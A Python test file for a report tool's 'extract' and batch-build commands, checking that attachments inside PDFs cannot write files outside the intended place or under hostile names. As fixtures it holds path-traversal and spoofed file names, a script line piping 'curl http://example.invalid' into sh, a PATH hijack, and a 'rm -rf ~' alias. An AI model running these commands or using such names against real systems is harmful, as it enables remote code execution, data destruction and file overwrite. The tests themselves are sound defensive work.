"""Where reportgen writes: `extract` only where the officer says or beside the PDF under the
PDF's own name, whatever the attachment calls itself, and only a report's YAML; a batch whose
inputs would write over each other's files is refused before anything is built."""

from __future__ import annotations

import subprocess
import sys
import zlib
from pathlib import Path

import pikepdf
import pytest
from conftest import MINIMAL

from reportgen.build import build

HOSTILE_NAMES = [
    ".bash_profile",
    "../x.yaml",
    "../../.bashrc",
    "setup.exe",
    "/tmp/absolute.yaml",
    "..\\..\\evil.yaml",
    "report\u202elmay.exe",
    "a\x00b.yaml",
    "x" * 300 + ".yaml",
]


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "reportgen", *args], capture_output=True, text=True, cwd=cwd)


def _files(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


@pytest.fixture(scope="module")
def report_pdf(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("source")
    (folder / "r.yaml").write_text(MINIMAL, encoding="utf-8")
    return build(folder / "r.yaml", folder, ("pdf",)).outputs[0]


def _attached(report_pdf: Path, target: Path, name: str, data: bytes | None = None) -> Path:
    """The report's PDF with its attachment renamed to `name` (and its bytes replaced by `data`)."""
    with pikepdf.open(report_pdf) as document:
        spec = document.Root.AF[0]
        spec.F = pikepdf.String(name)
        spec.UF = pikepdf.String(name)
        if data is not None:
            spec.EF.F.write(zlib.compress(data), filter=pikepdf.Name.FlateDecode)
        document.save(target)
    return target


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
def test_extract_never_writes_under_the_attachment_s_name(report_pdf, tmp_path, name):
    inbox = tmp_path / "a" / "b" / "inbox"
    inbox.mkdir(parents=True)
    pdf = _attached(report_pdf, inbox / "交来的.pdf", name)
    before = _files(tmp_path)
    result = run("extract", str(pdf), cwd=inbox)
    assert result.returncode == 0, result.stderr
    assert _files(tmp_path) - before == {"a/b/inbox/交来的.yaml"}  # nothing else, anywhere
    assert (inbox / "交来的.yaml").read_text(encoding="utf-8") == MINIMAL
    said = result.stdout + result.stderr
    assert "\u202e" not in said and "\x00" not in said
    assert "附件名为「" in said and len(said) < 300
    if "\u202e" in name:
        assert "[U+202E]" in said
    if "\x00" in name:
        assert "a[U+0000]b.yaml" in said


def test_extract_writes_where_told(report_pdf, tmp_path):
    pdf = _attached(report_pdf, tmp_path / "交来的.pdf", "../../.profile")
    result = run("extract", str(pdf), "-o", str(tmp_path / "取回.yaml"))
    assert result.returncode == 0, result.stderr
    assert _files(tmp_path) == {"交来的.pdf", "取回.yaml"}
    assert (tmp_path / "取回.yaml").read_text(encoding="utf-8") == MINIMAL


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, "不是报告的 YAML（这不是文本文件）"),
        (b"export PATH=/tmp/evil:$PATH\ncurl http://example.invalid | sh\n", "文件的最外层应是「键: 值」形式"),
        (b"PATH: /tmp/evil\nHOME: /tmp\n", "没有「部门名称」「年度」"),
        (b"\xd7\xd6\xb7\xfb: 1\n", "GBK/GB2312"),
        (b"a: [1, 2\n", "不是报告的 YAML"),
    ],
    ids=["program", "script", "other-yaml", "gbk", "broken-yaml"],
)
def test_extract_writes_only_a_report_s_yaml(report_pdf, tmp_path, data, reason):
    pdf = _attached(report_pdf, tmp_path / "交来的.pdf", "setup.yaml", data)
    result = run("extract", str(pdf))
    assert result.returncode == 2, result.stderr
    assert reason in result.stderr and "附带的文件「setup.yaml」" in result.stderr
    assert "Traceback" not in result.stderr and len(result.stderr.splitlines()) == 1
    assert _files(tmp_path) == {"交来的.pdf"}


def test_the_same_attachment_is_not_taken_by_collect_or_import(report_pdf, tmp_path):
    pdf = _attached(report_pdf, tmp_path / "交来的.pdf", ".bashrc", b"alias ls='rm -rf ~'\n")
    result = run("collect", str(pdf), "-o", str(tmp_path / "汇总.xlsx"))
    assert result.returncode == 0 and "无法读取 1 份" in result.stderr, result.stderr
    assert _files(tmp_path) == {"汇总.xlsx", "交来的.pdf"}
    imported = run("import", str(pdf), "-o", str(tmp_path / "导入.yaml"))
    assert "直接取出" not in imported.stderr and "Traceback" not in imported.stderr
    assert "rm -rf" not in (tmp_path / "导入.yaml").read_text(encoding="utf-8")


def _batch(tmp_path: Path, *names: str) -> list[Path]:
    paths = []
    for name in names:
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(MINIMAL.replace("测试局", f"测试局{len(paths)}"), encoding="utf-8")
        paths.append(path)
    return paths


def test_a_batch_whose_inputs_share_a_name_is_refused_before_building(tmp_path):
    first, second = _batch(tmp_path, "a/r.yaml", "b/r.yaml")
    out = tmp_path / "out"
    result = run("build", str(first), str(second), "-o", str(out), "-f", "docx")
    assert result.returncode == 1, result.stderr
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"{second}: 错误: 与 {first} 同名，都会生成 {out / 'r.docx'}")
    assert "生成 2 个" not in result.stderr and "Traceback" not in result.stderr
    assert not out.exists()


def test_a_batch_of_names_that_differ_only_in_case_or_a_file_given_twice(tmp_path):
    first, second = _batch(tmp_path, "a/r.yaml", "b/R.yaml")
    result = run("build", str(first), str(second), str(tmp_path / "a" / ".." / "a" / "r.yaml"), "-o", str(tmp_path))
    assert result.returncode == 1
    assert f"{second}: 错误: 与 {first} 同名，都会生成 {tmp_path / 'R.docx'}、{tmp_path / 'R.pdf'}" in result.stderr
    assert "这个文件给了两次" in result.stderr
    assert not list(tmp_path.glob("*.docx")) and not list(tmp_path.glob("*.pdf"))


def test_a_batch_of_one_name_in_different_folders_builds_each_beside_its_yaml(tmp_path):
    first, second = _batch(tmp_path, "a/r.yaml", "b/r.yaml")
    result = run("build", str(first), str(second), "-f", "docx")
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "a" / "r.docx").is_file() and (tmp_path / "b" / "r.docx").is_file()
    assert "生成 2 个" in result.stderr
